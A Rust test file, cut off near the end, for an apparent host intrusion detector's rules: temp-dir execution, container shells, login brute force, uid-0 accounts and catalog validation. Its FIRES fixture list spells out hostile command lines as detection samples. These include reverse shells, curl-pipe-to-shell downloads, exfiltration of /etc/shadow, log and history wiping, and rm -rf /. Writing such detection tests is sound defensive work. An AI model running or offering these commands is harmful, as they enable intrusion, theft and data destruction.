use super::*;
use crate::event::{ContainerEvent, ListeningPort};
use proptest::prelude::*;
use std::collections::BTreeMap;

fn process(executable: &str, container: Option<(&str, &str)>) -> Event {
    let mut extra = ExtraDetails::new();
    if let Some((id, name)) = container {
        extra.insert("ContainerId".into(), id.into());
        extra.insert("ContainerName".into(), name.into());
    }
    Event::new(Payload::ProcessCreate(vec![ProcessCreate {
        executable: executable.into(),
        command_line: format!("{executable} --run"),
        process_id: 4242,
        parent_process_id: 1,
        user_id: "1000".into(),
        user_name: Some("alice".into()),
        extra_details: extra,
    }]))
}

fn exec_start(command: Option<&str>) -> Event {
    Event::new(Payload::ContainerEvent(vec![ContainerEvent {
        action: "exec_start".into(),
        object_type: ContainerObject::Container,
        container_id: Some("c0ffee".into()),
        container_name: Some("web".into()),
        image: Some("web:1".into()),
        image_digest: None,
        module_name: Some("web".into()),
        exit_code: None,
        command: command.map(str::to_string),
        signal: None,
        extra_details: Default::default(),
    }]))
}

/// A shell exec'd into container `id`.
fn shell_in(id: &str) -> Event {
    let mut e = exec_start(Some("sh"));
    if let Payload::ContainerEvent(v) = &mut e.payload {
        v[0].container_id = Some(id.into());
    }
    e
}

fn failed_login(operation: &str, from: Option<&str>, user: &str) -> Event {
    Event::new(Payload::Login(vec![Login {
        process_id: 7,
        user_id: None,
        user_name: Some(user.into()),
        operation: operation.into(),
        executable: "/usr/sbin/sshd".into(),
        remote_address: from.map(|a| a.parse().unwrap()),
        remote_port: Some(40022),
        local_port: None,
        result: LoginResult::Fail,
        extra_details: Default::default(),
    }]))
}

fn user_change(op: AccountOperation, name: &str, id: &str, new_uid0: bool) -> Event {
    let mut extra = ExtraDetails::new();
    if new_uid0 {
        extra.insert("NewUid0".into(), "true".into());
    }
    Event::new(Payload::UserChange(vec![UserChange {
        operation: op,
        name: name.into(),
        id: id.into(),
        details: None,
        extra_details: extra,
    }]))
}

fn run(d: &mut Detector, e: &Event, now: Instant) -> Vec<Finding> {
    let mut out = Vec::new();
    d.inspect(e, now, &mut out);
    out
}

fn raised(findings: &[Finding]) -> Vec<&Alert> {
    findings
        .iter()
        .filter_map(|f| match f {
            Finding::Raised(_, a) => Some(&**a),
            Finding::Suppressed(_) => None,
        })
        .collect()
}

#[test]
fn rules_are_declared_in_all_order_with_distinct_ids() {
    // Per-rule state (budgets, metrics) is indexed by the discriminant.
    for (i, rule) in Rule::all().enumerate() {
        assert_eq!(rule.index(), i, "{rule:?}");
        assert_eq!(Rule::from_id(rule.id()), Some(rule));
    }
    let ids: std::collections::HashSet<&str> = Rule::all().map(|r| r.id()).collect();
    assert_eq!(ids.len(), Rule::count());
    let code = [
        Rule::ExecFromTempDir,
        Rule::ExecFromMemory,
        Rule::ShellInContainer,
        Rule::LoginBruteForce,
        Rule::Uid0AccountAdded,
    ];
    for (rule, id) in code.iter().zip(catalog::CODE_RULES) {
        assert_eq!(rule.id(), id);
        assert!(rule.def().data.is_none());
    }
}

#[test]
fn programs_run_from_temporary_directories_or_memory_raise_alerts() {
    let mut d = Detector::new();
    let now = Instant::now();
    for (exe, rule) in [
        ("/tmp/x/payload", "exec-from-temp-dir"),
        ("/var/tmp/miner", "exec-from-temp-dir"),
        ("/dev/shm/.hidden", "exec-from-temp-dir"),
        ("/memfd:stage2 (deleted)", "exec-from-memory"),
    ] {
        let f = run(&mut d, &process(exe, None), now);
        let a = raised(&f);
        assert_eq!(a.len(), 1, "{exe}");
        assert_eq!(a[0].rule_id, rule);
        assert_eq!(a[0].executable.as_deref(), Some(exe));
        assert_eq!(a[0].process_id, Some(4242));
        assert_eq!(a[0].user_name.as_deref(), Some("alice"));
        assert!(a[0].description.contains(exe), "{}", a[0].description);
    }
    // Ordinary places, and names that only look like them.
    for exe in [
        "/usr/bin/tmp",
        "/bin/sh",
        "/tmpfoo/x",
        "/opt/tmp/x",
        "",
        "tmp/x",
    ] {
        assert_eq!(run(&mut d, &process(exe, None), now), vec![], "{exe}");
    }
}

fn command(executable: &str, command_line: &str) -> Event {
    let mut e = process(executable, None);
    if let Payload::ProcessCreate(v) = &mut e.payload {
        v[0].command_line = command_line.into();
    }
    e
}

#[test]
fn scripts_run_from_temporary_directories_raise_alerts() {
    let mut d = Detector::new();
    let now = Instant::now();
    for (exe, cmd, script) in [
        ("/usr/bin/dash", "/bin/sh /tmp/x.sh", "/tmp/x.sh"),
        ("/usr/bin/bash", "bash -x /var/tmp/y", "/var/tmp/y"),
        (
            "/usr/bin/python3.11",
            "python3 -u /dev/shm/z.py arg",
            "/dev/shm/z.py",
        ),
        ("/usr/bin/perl", "perl /tmp/p.pl", "/tmp/p.pl"),
        ("/bin/busybox", "busybox sh /tmp/b", "/tmp/b"),
        ("/bin/busybox", "sh /tmp/c", "/tmp/c"),
    ] {
        let f = run(&mut d, &command(exe, cmd), now);
        let a = raised(&f);
        assert_eq!(a.len(), 1, "{cmd}");
        assert_eq!(a[0].rule_id, "exec-from-temp-dir");
        assert_eq!(a[0].executable.as_deref(), Some(exe));
        assert_eq!(a[0].extra_details["Script"], script);
        assert!(
            a[0].description
                .starts_with(&format!("script {script} was run by {exe}")),
            "{}",
            a[0].description
        );
    }
    for (exe, cmd) in [
        ("/usr/bin/dash", "/bin/sh /usr/local/bin/start.sh"),
        ("/usr/bin/python3", "python3 -m http.server /tmp/x"),
        ("/usr/bin/cat", "cat /tmp/notes"),
        ("/bin/busybox", "busybox cat /tmp/x"),
        ("/bin/busybox", "cat /tmp/x"),
        ("/usr/bin/dash", "sh"),
        ("/usr/bin/dash", ""),
    ] {
        assert_eq!(run(&mut d, &command(exe, cmd), now), vec![], "{cmd}");
    }
}

#[test]
fn an_alert_is_suppressed_per_subject_for_the_window_and_raised_again_after() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let e = process("/tmp/dropper", Some(("c1", "web")));
    let a = raised(&run(&mut d, &e, t0))
        .into_iter()
        .cloned()
        .collect::<Vec<_>>();
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].container_name.as_deref(), Some("web"));
    assert!(
        a[0].description.ends_with("in container web"),
        "{}",
        a[0].description
    );
    // The same program in the same container: suppressed, counted.
    let again = run(&mut d, &e, t0 + Duration::from_secs(1));
    assert_eq!(again, vec![Finding::Suppressed(Rule::ExecFromTempDir)]);
    // The same program on the host, or in another container, is another subject.
    assert_eq!(
        raised(&run(&mut d, &process("/tmp/dropper", None), t0)).len(),
        1
    );
    let other = process("/tmp/dropper", Some(("c2", "db")));
    assert_eq!(raised(&run(&mut d, &other, t0)).len(), 1);
    // After the window, alerted again.
    assert_eq!(raised(&run(&mut d, &e, t0 + SUPPRESSION)).len(), 1);
}

#[test]
fn shells_started_in_running_containers_raise_alerts() {
    let mut d = Detector::new();
    let mut now = Instant::now();
    for command in [
        "sh",
        "sh -c sleep 1; echo hi",
        "/bin/bash -l",
        "busybox sh",
        "/bin/busybox ash -c id",
        "  dash  ",
    ] {
        let f = run(&mut d, &exec_start(Some(command)), now);
        let a = raised(&f);
        assert_eq!(a.len(), 1, "{command}");
        assert_eq!(a[0].rule_id, "shell-in-container");
        assert_eq!(a[0].container_name.as_deref(), Some("web"));
        assert_eq!(a[0].container_id.as_deref(), Some("c0ffee"));
        assert_eq!(a[0].command_line.as_deref(), Some(command));
        assert_eq!(a[0].extra_details["ContainerImage"], "web:1");
        // Past the window, so the next command alerts again.
        now += SUPPRESSION;
    }
    for command in [
        Some("cat /etc/passwd"),
        Some("busybox cat x"),
        Some("shutdown"),
        Some(""),
        None,
    ] {
        assert_eq!(
            run(&mut d, &exec_start(command), now),
            vec![],
            "{command:?}"
        );
    }
    // Only the start: the engine reports exec_create first, which would alert twice.
    let Payload::ContainerEvent(mut v) = exec_start(Some("sh")).payload else {
        unreachable!()
    };
    v[0].action = "exec_create".into();
    let create = Event::new(Payload::ContainerEvent(v));
    assert_eq!(run(&mut d, &create, now), vec![]);
}

#[test]
fn failed_logins_from_one_origin_alert_at_the_threshold_per_source() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let attacker = Some("203.0.113.9");
    let mut findings = Vec::new();
    for i in 0..BRUTE_FORCE_THRESHOLD - 1 {
        let at = t0 + Duration::from_secs(i as u64);
        // The same attempts also in btmp, a second source: counted apart, not summed.
        findings.extend(run(
            &mut d,
            &failed_login("sshd:password", attacker, "root"),
            at,
        ));
        findings.extend(run(
            &mut d,
            &failed_login("btmp:failed", attacker, "root"),
            at,
        ));
    }
    assert_eq!(findings, vec![]);
    let last = t0 + Duration::from_secs(30);
    let f = run(
        &mut d,
        &failed_login("sshd:invalid-user", attacker, "admin"),
        last,
    );
    let a = raised(&f);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].rule_id, "login-brute-force");
    assert_eq!(a[0].event_count, BRUTE_FORCE_THRESHOLD as u64);
    assert_eq!(a[0].remote_address, "203.0.113.9".parse().ok());
    assert_eq!(a[0].user_name.as_deref(), Some("admin"));
    assert_eq!(a[0].extra_details["Source"], "sshd");
    assert_eq!(a[0].extra_details["LastOperation"], "sshd:invalid-user");
    // The count starts over, and the next threshold's worth is suppressed, not re-sent.
    let mut later = Vec::new();
    for i in 0..BRUTE_FORCE_THRESHOLD {
        let at = last + Duration::from_secs(1 + i as u64);
        later.extend(run(
            &mut d,
            &failed_login("sshd:password", attacker, "root"),
            at,
        ));
    }
    assert_eq!(later, vec![Finding::Suppressed(Rule::LoginBruteForce)]);
    // The btmp count reaches it with its tenth, as its own subject.
    let f = run(&mut d, &failed_login("btmp:failed", attacker, "root"), last);
    assert_eq!(raised(&f)[0].extra_details["Source"], "btmp");
}

#[test]
fn failed_logins_spread_wider_than_the_window_or_successes_do_not_alert() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    // Ten attempts span just over the window: never ten within it.
    let step = BRUTE_FORCE_WINDOW / (BRUTE_FORCE_THRESHOLD as u32 - 1) + Duration::from_millis(1);
    for i in 0..3 * BRUTE_FORCE_THRESHOLD as u32 {
        let e = failed_login("sshd:password", Some("198.51.100.1"), "root");
        assert_eq!(run(&mut d, &e, t0 + step * i), vec![], "attempt {i}");
    }
    // Local failures (su, sudo) count per user; successes never count.
    let Payload::Login(mut ok) = failed_login("su", None, "bob").payload else {
        unreachable!()
    };
    ok[0].result = LoginResult::Success;
    let success = Event::new(Payload::Login(ok));
    for _ in 0..2 * BRUTE_FORCE_THRESHOLD {
        assert_eq!(run(&mut d, &success, t0), vec![]);
    }
    let mut f = Vec::new();
    for _ in 0..BRUTE_FORCE_THRESHOLD {
        f.extend(run(&mut d, &failed_login("su", None, "bob"), t0));
    }
    let a = raised(&f);
    assert_eq!(a.len(), 1);
    assert!(
        a[0].description.contains("from user bob recorded by su"),
        "{}",
        a[0].description
    );
}

#[test]
fn new_uid0_accounts_raise_critical_alerts() {
    let mut d = Detector::new();
    let now = Instant::now();
    let added = user_change(AccountOperation::UserAdded, "toor", "0", true);
    let a = raised(&run(&mut d, &added, now))
        .into_iter()
        .cloned()
        .collect::<Vec<_>>();
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].rule_id, "uid0-account-added");
    assert_eq!(a[0].severity, BaselineSeverity::Critical);
    assert_eq!(a[0].description, "account toor was added with uid 0");
    let changed = user_change(AccountOperation::UserChanged, "svc", "0", true);
    let a = raised(&run(&mut d, &changed, now))
        .into_iter()
        .cloned()
        .collect::<Vec<_>>();
    assert_eq!(a[0].description, "account svc was changed to uid 0");
    // Another module's event without edgeguard's flag still counts when added with uid 0.
    let foreign = user_change(AccountOperation::UserAdded, "zero", "0", false);
    assert_eq!(raised(&run(&mut d, &foreign, now)).len(), 1);
    for quiet in [
        user_change(AccountOperation::UserAdded, "bob", "1001", false),
        user_change(AccountOperation::UserChanged, "root", "0", false),
        user_change(AccountOperation::GroupAdded, "wheel", "0", false),
    ] {
        assert_eq!(run(&mut d, &quiet, now), vec![]);
    }
}

#[test]
fn other_kinds_are_ignored() {
    let mut d = Detector::new();
    let ports = Event::new(Payload::ListeningPorts(vec![ListeningPort {
        protocol: "TCP".into(),
        local_address: None,
        local_port: 22,
        remote_address: None,
        remote_port: None,
        extra_details: Default::default(),
    }]));
    assert_eq!(run(&mut d, &ports, Instant::now()), vec![]);
}

#[test]
fn a_rule_raises_at_most_its_budget_per_minute() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let count = |d: &mut Detector, from: u32, at: Instant| {
        let (mut up, mut down) = (0, 0);
        for i in from..from + 100 {
            for f in run(d, &process(&format!("/tmp/p{i}"), None), at) {
                match f {
                    Finding::Raised(..) => up += 1,
                    Finding::Suppressed(_) => down += 1,
                }
            }
        }
        (up, down)
    };
    assert_eq!(
        count(&mut d, 0, t0),
        (MAX_ALERTS_PER_MINUTE, 100 - MAX_ALERTS_PER_MINUTE)
    );
    // Other rules keep their own budget.
    let root = user_change(AccountOperation::UserAdded, "toor", "0", true);
    assert_eq!(raised(&run(&mut d, &root, t0)).len(), 1);
    // The next minute has a fresh budget: the subjects cut off before are raised now, the ones
    // raised before are still in their suppression window.
    let t1 = t0 + Duration::from_secs(60);
    assert_eq!(
        count(&mut d, 0, t1),
        (100 - MAX_ALERTS_PER_MINUTE, MAX_ALERTS_PER_MINUTE)
    );
}

#[test]
fn disabled_rules_neither_alert_nor_count() {
    let mut d = Detector::new();
    let now = Instant::now();
    d.set_disabled(&[Rule::ExecFromTempDir, Rule::LoginBruteForce]);
    assert_eq!(run(&mut d, &process("/tmp/x", None), now), vec![]);
    let login = failed_login("sshd:password", Some("203.0.113.1"), "root");
    for _ in 0..BRUTE_FORCE_THRESHOLD - 1 {
        assert_eq!(run(&mut d, &login, now), vec![]);
    }
    // The others still work.
    assert_eq!(
        raised(&run(&mut d, &process("/memfd:x", None), now)).len(),
        1
    );
    assert_eq!(raised(&run(&mut d, &shell_in("c1"), now)).len(), 1);
    // Turned on again: alerts, and the failures seen while off did not count.
    d.set_disabled(&[]);
    assert_eq!(raised(&run(&mut d, &process("/tmp/x", None), now)).len(), 1);
    assert_eq!(run(&mut d, &login, now), vec![]);
}

#[test]
fn state_stays_bounded_under_a_flood_of_distinct_subjects() {
    let mut d = Detector::new();
    let mut now = Instant::now();
    let mut most = 0;
    for i in 0..3 * MAX_SUPPRESSED {
        // A minute apart every budget's worth, so every subject raises and is kept.
        if i % MAX_ALERTS_PER_MINUTE as usize == 0 {
            now += Duration::from_secs(60);
        }
        let rule = i % 2;
        let e = if rule == 0 {
            process(&format!("/tmp/p{i}"), None)
        } else {
            shell_in(&format!("c{i}"))
        };
        let f = run(&mut d, &e, now);
        assert_eq!(raised(&f).len(), 1, "subject {i}");
        most = most.max(d.suppressed.len());
    }
    // Swept of what had expired as it doubled: at most twice what is live (alerts of the last
    // 10 minutes, up to 11 minutes' budgets) and never near the cap.
    let live = 11 * MAX_ALERTS_PER_MINUTE as usize;
    assert!(most <= 2 * live + 1, "{most} entries at most, {live} live");
    assert!(most >= live, "{most}: every subject was kept while live");
    for i in 0..MAX_ORIGINS + 100 {
        let ip = format!("10.0.{}.{}", i / 256, i % 256);
        run(
            &mut d,
            &failed_login("sshd:password", Some(&ip), "root"),
            now,
        );
    }
    assert!(d.failures.len() <= MAX_ORIGINS);
}

/// A process event with this executable and command line.
fn exec(executable: &str, command_line: &str) -> Event {
    command(executable, command_line)
}

/// The ids of the rules a fresh detector raises on the event.
fn fired(e: &Event) -> Vec<&'static str> {
    fired_with(&mut Detector::new(), e)
}

#[test]
fn the_built_in_catalog_is_valid() {
    let c = Catalog::parse(include_str!("rules.json")).expect("valid catalog");
    assert_eq!(c.rules.len(), catalog().rules.len());
    assert!(c.rules.len() > 30, "{}", c.rules.len());
    for r in &c.rules {
        assert!(!r.title.is_empty() && !r.description.is_empty(), "{}", r.id);
        // Every rule but the package record and the allow-list rules (policy the user writes,
        // not a technique) maps to ATT&CK.
        let policy = [
            "software-changed",
            "process-not-allowed",
            "connection-not-allowed",
            "behaviour-anomaly",
        ];
        assert!(
            !r.techniques.is_empty() || policy.contains(&r.id.as_str()),
            "{} has no technique",
            r.id
        );
    }
}

#[test]
fn bad_catalogs_are_rejected_with_the_rule_and_reason() {
    let code = r#"[
      {"id":"exec-from-temp-dir","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"exec-from-memory","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"shell-in-container","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"login-brute-force","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"uid0-account-added","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"process-not-allowed","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"connection-not-allowed","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"login-not-allowed","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
      {"id":"behaviour-anomaly","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"}"#;
    let with = |rule: &str| format!("{code},{rule}]");
    let ok = with(
        r#"{"id":"x","title":"t","severity":"Warning","techniques":["T1000"],"description":"d","remediation":"r","kind":"ProcessCreate","match":{"field":"CommandLine","contains":"x"}}"#,
    );
    Catalog::parse(&ok).unwrap();
    for (bad, why) in [
        (
            ok.replace(r#""CommandLine""#, r#""Commandline""#),
            "has no field Commandline",
        ),
        (
            ok.replace(r#""contains""#, r#""includes""#),
            "unknown operator",
        ),
        (ok.replace("T1000", "T10"), "bad technique"),
        (
            ok.replace("Warning\",\"tech", "Severe\",\"tech"),
            "severity",
        ),
        (ok.replace("ProcessCreate", "Heartbeat"), "is not one of"),
        (
            ok.replace(r#""id":"x""#, r#""id":"login-brute-force""#),
            "duplicate id",
        ),
        (
            ok.replace(r#""contains":"x""#, r#""cidr":"10.0.0.0/40""#),
            "bad CIDR",
        ),
        (
            ok.replace(r#""contains":"x""#, r#""contains":"x","prefix":"y""#),
            "exactly one operator",
        ),
        (
            ok.replace(
                r#""match""#,
                r#""threshold":{"count":1,"key":"UserId","within_secs":5},"match""#,
            ),
            "count",
        ),
        (
            format!("{code}]").replace(r#"{"id":"exec-from-memory""#, r#"{"id":"exec-from-mem""#),
            "must be code rule",
        ),
        ("{}".to_string(), "array"),
    ] {
        let e = Catalog::parse(&bad).unwrap_err();
        assert!(e.contains(why), "{why}: {e}");
    }
}

/// A realistic command line for every ProcessCreate data rule, the rule it must raise.
const FIRES: &[(&str, &str, &str)] = &[
    (
        "htaccess-access",
        "/usr/bin/bash",
        "bash -c echo 'AddType application/x-httpd-php .jpg' >> /var/www/html/uploads/.htaccess",
    ),
    (
        "htaccess-access",
        "/usr/bin/tee",
        "tee -a /var/www/.htaccess",
    ),
    (
        "interpreter-extension-mismatch",
        "/usr/bin/bash",
        "bash /var/www/uploads/image.php",
    ),
    (
        "interpreter-extension-mismatch",
        "/usr/bin/dash",
        "sh ./update.py",
    ),
    (
        "interpreter-extension-mismatch",
        "/usr/bin/python3.11",
        "python3 /opt/app/install.sh",
    ),
    (
        "interpreter-extension-mismatch",
        "/usr/bin/perl",
        "perl run.sh --fast",
    ),
    ("history-cleared", "/usr/bin/bash", "bash -c history -c"),
    (
        "history-cleared",
        "/usr/bin/bash",
        "bash -c unset HISTFILE; id",
    ),
    (
        "history-cleared",
        "/usr/bin/rm",
        "rm -f /root/.bash_history",
    ),
    (
        "history-cleared",
        "/usr/bin/ln",
        "ln -sf /dev/null /root/.bash_history",
    ),
    (
        "history-cleared",
        "/usr/bin/dash",
        "sh -c > ~/.bash_history",
    ),
    ("history-cleared", "/bin/busybox", "rm /root/.ash_history"),
    (
        "decode-and-run",
        "/usr/bin/bash",
        "bash -c echo ZWNobyBoaQ== | base64 -d | bash",
    ),
    (
        "decode-and-run",
        "/usr/bin/dash",
        "sh -c echo 6964 | xxd -r -p | sh",
    ),
    (
        "decode-and-run",
        "/usr/bin/bash",
        "bash -c openssl enc -d -aes-256-cbc -in /home/a/p -k x | python3",
    ),
    (
        "decode-and-run",
        "/usr/bin/bash",
        "bash -c eval $(echo aWQ= | base64 --decode)",
    ),
    (
        "decode-and-run",
        "/usr/bin/bash",
        "bash -c base64 -d /home/a/p.b64 > /home/a/p.sh && sh /home/a/p.sh",
    ),
    (
        "decode-and-run",
        "/usr/bin/python3.11",
        "python3 -c import base64,os; os.system(base64.b64decode('aWQ=').decode())",
    ),
    (
        "decode-and-run",
        "/usr/bin/perl",
        "perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))",
    ),
    (
        "data-egress",
        "/usr/bin/curl",
        "curl -T /root/backup.tgz ftp://198.51.100.7/in/",
    ),
    (
        "data-egress",
        "/usr/bin/curl",
        "curl -s -F file=@/etc/shadow https://198.51.100.7/u",
    ),
    (
        "data-egress",
        "/usr/bin/wget",
        "wget --post-file=/etc/passwd http://198.51.100.7/",
    ),
    (
        "data-egress",
        "/usr/bin/bash",
        "bash -c tar czf - /home | nc 198.51.100.7 9000",
    ),
    (
        "data-egress",
        "/usr/bin/dash",
        "sh -c nc 198.51.100.7 9000 < /var/lib/app/data.db",
    ),
    (
        "bot-like",
        "/usr/bin/chattr",
        "chattr -i /etc/ld.so.preload",
    ),
    (
        "bot-like",
        "/usr/bin/chattr",
        "chattr +i /var/spool/cron/crontabs/root",
    ),
    ("bot-like", "/usr/bin/pkill", "pkill -f kdevtmpfsi"),
    (
        "bot-like",
        "/usr/bin/bash",
        "bash -c ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9",
    ),
    (
        "bot-like",
        "/usr/sbin/sysctl",
        "sysctl -w vm.nr_hugepages=1280",
    ),
    (
        "bot-like",
        "/usr/bin/bash",
        "bash -c echo 0 > /proc/sys/kernel/nmi_watchdog",
    ),
    (
        "download-and-run",
        "/usr/bin/bash",
        "bash -c curl -fsSL http://198.51.100.7/x.sh | bash",
    ),
    (
        "download-and-run",
        "/usr/bin/dash",
        "sh -c wget -qO- http://198.51.100.7/i | sh",
    ),
    (
        "download-and-run",
        "/usr/bin/bash",
        "bash -c wget http://198.51.100.7/m -O /home/a/m && chmod +x /home/a/m",
    ),
    (
        "reverse-shell",
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    ),
    (
        "reverse-shell",
        "/usr/bin/nc.traditional",
        "nc -e /bin/sh 198.51.100.7 4444",
    ),
    (
        "reverse-shell",
        "/usr/bin/ncat",
        "ncat 198.51.100.7 4444 -e /bin/bash",
    ),
    (
        "reverse-shell",
        "/usr/bin/dash",
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
    ),
    (
        "reverse-shell",
        "/usr/bin/socat",
        "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
    ),
    (
        "reverse-shell",
        "/usr/bin/python3.11",
        "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)",
    ),
    (
        "reverse-shell",
        "/usr/bin/perl",
        "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");",
    ),
    (
        "account-created",
        "/usr/sbin/useradd",
        "useradd -m -s /bin/bash backdoor",
    ),
    (
        "account-created",
        "/usr/sbin/adduser",
        "adduser --disabled-password --gecos x support",
    ),
    (
        "account-created",
        "/usr/sbin/useradd",
        "useradd -M -N -r -s /bin/bash -c evil_account art",
    ),
    (
        "account-modified",
        "/usr/sbin/usermod",
        "usermod -aG sudo backdoor",
    ),
    ("account-modified", "/usr/bin/passwd", "passwd backdoor"),
    (
        "account-modified",
        "/usr/bin/gpasswd",
        "gpasswd -a backdoor docker",
    ),
    ("account-modified", "/usr/sbin/groupadd", "groupadd ops2"),
    ("account-deleted", "/usr/sbin/userdel", "userdel -r alice"),
    (
        "cron-persistence",
        "/usr/bin/crontab",
        "crontab /home/a/cron.txt",
    ),
    ("cron-persistence", "/usr/bin/crontab", "crontab -"),
    (
        "cron-persistence",
        "/usr/bin/bash",
        "bash -c echo '* * * * * root /home/a/x' >> /etc/crontab",
    ),
    (
        "cron-persistence",
        "/usr/bin/tee",
        "tee -a /etc/cron.d/update",
    ),
    (
        "systemd-persistence",
        "/usr/bin/systemctl",
        "systemctl enable --now backdoor.service",
    ),
    (
        "systemd-persistence",
        "/usr/bin/bash",
        "bash -c echo '[Service]' > /etc/systemd/system/evil.service",
    ),
    (
        "systemd-persistence",
        "/usr/bin/cp",
        "cp /home/a/evil.service /etc/systemd/system/",
    ),
    (
        "shell-profile-modified",
        "/usr/bin/bash",
        "bash -c echo 'curl x|sh' >> ~/.bashrc",
    ),
    (
        "shell-profile-modified",
        "/usr/bin/dash",
        "sh -c echo x > /etc/profile.d/z.sh",
    ),
    (
        "shell-profile-modified",
        "/usr/bin/tee",
        "tee -a /root/.profile",
    ),
    (
        "ssh-authorized-keys-modified",
        "/usr/bin/bash",
        "bash -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys",
    ),
    (
        "ssh-authorized-keys-modified",
        "/usr/bin/cp",
        "cp /home/a/k /home/alice/.ssh/authorized_keys",
    ),
    ("setuid-set", "/usr/bin/chmod", "chmod u+s /home/a/sh"),
    (
        "setuid-set",
        "/usr/bin/chmod",
        "chmod 4755 /usr/local/bin/x",
    ),
    ("setuid-set", "/usr/bin/chmod", "chmod +s /bin/bash"),
    (
        "setuid-set",
        "/usr/sbin/setcap",
        "setcap cap_setuid+ep /usr/bin/python3",
    ),
    ("credential-file-access", "/usr/bin/cat", "cat /etc/shadow"),
    (
        "credential-file-access",
        "/usr/bin/cp",
        "cp /etc/shadow /home/a/s",
    ),
    (
        "credential-file-access",
        "/usr/sbin/unshadow",
        "unshadow /etc/passwd /etc/shadow",
    ),
    (
        "credential-file-access",
        "/usr/bin/head",
        "head /etc/gshadow",
    ),
    (
        "private-key-access",
        "/usr/bin/cat",
        "cat /root/.ssh/id_rsa",
    ),
    ("private-key-access", "/usr/bin/find", "find / -name id_rsa"),
    (
        "firewall-disabled",
        "/usr/sbin/xtables-nft-multi",
        "iptables -F",
    ),
    (
        "firewall-disabled",
        "/usr/sbin/iptables-legacy",
        "iptables -P INPUT ACCEPT",
    ),
    (
        "firewall-disabled",
        "/usr/sbin/iptables",
        "iptables -t filter -F INPUT",
    ),
    ("firewall-disabled", "/usr/sbin/nft", "nft flush ruleset"),
    ("firewall-disabled", "/usr/sbin/ufw", "ufw disable"),
    (
        "firewall-disabled",
        "/usr/bin/systemctl",
        "systemctl stop firewalld",
    ),
    ("audit-disabled", "/usr/sbin/auditctl", "auditctl -e 0"),
    ("audit-disabled", "/usr/sbin/auditctl", "auditctl -D"),
    (
        "audit-disabled",
        "/usr/bin/systemctl",
        "systemctl stop auditd",
    ),
    ("audit-disabled", "/usr/sbin/service", "service auditd stop"),
    (
        "timestomp",
        "/usr/bin/touch",
        "touch -t 202001010000 /usr/bin/evil",
    ),
    (
        "timestomp",
        "/usr/bin/touch",
        "touch -r /bin/ls /usr/local/bin/x",
    ),
    (
        "timestomp",
        "/usr/bin/touch",
        "touch --date=2020-01-01 /etc/x",
    ),
    (
        "kernel-module-loaded",
        "/usr/bin/kmod",
        "insmod /home/a/rootkit.ko",
    ),
    (
        "kernel-module-loaded",
        "/usr/bin/kmod",
        "modprobe /home/a/x.ko",
    ),
    ("logs-removed", "/usr/bin/rm", "rm -rf /var/log/auth.log"),
    ("logs-removed", "/usr/bin/shred", "shred -u /var/log/syslog"),
    (
        "logs-removed",
        "/usr/bin/truncate",
        "truncate -s 0 /var/log/wtmp",
    ),
    (
        "logs-removed",
        "/usr/bin/journalctl",
        "journalctl --vacuum-time=1s",
    ),
    (
        "crypto-miner",
        "/opt/x/xmrig",
        "xmrig -o pool.example:3333 -u wallet",
    ),
    (
        "crypto-miner",
        "/opt/x/systemd-helper",
        "/opt/x/systemd-helper --donate-level 1 -o stratum+tcp://pool.example:443",
    ),
    (
        "credential-dumping-tool",
        "/usr/local/bin/mimipenguin",
        "mimipenguin",
    ),
    (
        "credential-dumping-tool",
        "/usr/bin/python3.11",
        "python3 laZagne.py all",
    ),
    (
        "password-cracking-tool",
        "/usr/sbin/john",
        "john /home/a/hashes",
    ),
    (
        "password-cracking-tool",
        "/usr/bin/hydra",
        "hydra -l root -P pw.txt ssh://10.0.0.5",
    ),
    ("network-scanner", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"),
    ("enumeration-tool", "/usr/bin/bash", "bash linpeas.sh"),
    ("enumeration-tool", "/usr/local/bin/pspy64", "pspy64"),
    (
        "nohup-from-temp-dir",
        "/usr/bin/nohup",
        "nohup /tmp/.x/agent",
    ),
    (
        "compile-in-temp-dir",
        "/usr/bin/x86_64-linux-gnu-gcc-12",
        "cc -o /tmp/exploit /tmp/exploit.c",
    ),
    (
        "system-path-wiped",
        "/usr/bin/rm",
        "rm -rf --no-preserve-root /",
    ),
    ("system-path-wiped", "/usr/bin/rm", "rm -rf /etc"),
    ("system-path-wiped", "/usr/bin/rm", "rm -fr /*"),
    (
        "port-forwarding",
        "/usr/bin/ssh",
        "ssh -fN -R 2222:localhost:22 user@198.51.100.7",
    ),
    (
        "port-forwarding",
        "/usr/bin/socat",
        "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
    ),
    (
        "docker-api-on-tcp",
        "/usr/bin/dockerd",
        "dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock",
    ),
    (
        "trailing-space-executable",
        "/usr/local/bin/ls ",
        "/usr/local/bin/ls  -la",
    ),
];

/// Ordinary administration and package work that must raise nothing.
const QUIET: &[(&str, &str)] = &[
    // System accounts as package scripts create them.
    (
        "/usr/sbin/useradd",
